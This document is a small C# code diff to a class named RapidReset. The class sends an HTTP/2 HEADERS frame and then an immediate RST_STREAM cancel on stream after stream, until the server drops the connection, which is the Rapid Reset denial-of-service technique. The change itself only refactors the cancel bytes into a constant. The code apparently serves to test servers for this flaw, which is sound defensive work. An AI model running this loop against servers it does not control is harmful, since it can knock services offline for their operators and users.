@@ -12,6 +12,7 @@ internal static class RapidReset
     private const byte Reset = 3;
     private const byte Settings = 4;
     private const byte EndOfStreamAndHeaders = 0x05;
+    private static readonly byte[] Cancel = [0, 0, 0, 8];
 
     /// <summary>Returns when the server closed the connection.</summary>
     public static async Task RunAsync(Uri server, RemoteCertificateValidationCallback trusts, CancellationToken cancellationToken)
@@ -28,8 +29,8 @@ internal static class RapidReset
         {
             for (var stream = 1; !reading.IsCompleted; stream += 2)
             {
-                await tls.WriteAsync(
-                    (byte[])[.. Frame(Headers, EndOfStreamAndHeaders, stream, Request(server)), .. Frame(Reset, flags: 0, stream, [0, 0, 0, 8])], cancellationToken);
+                byte[] both = [.. Frame(Headers, EndOfStreamAndHeaders, stream, Request(server)), .. Frame(Reset, flags: 0, stream, Cancel)];
+                await tls.WriteAsync(both, cancellationToken);
             }
 
             await reading;
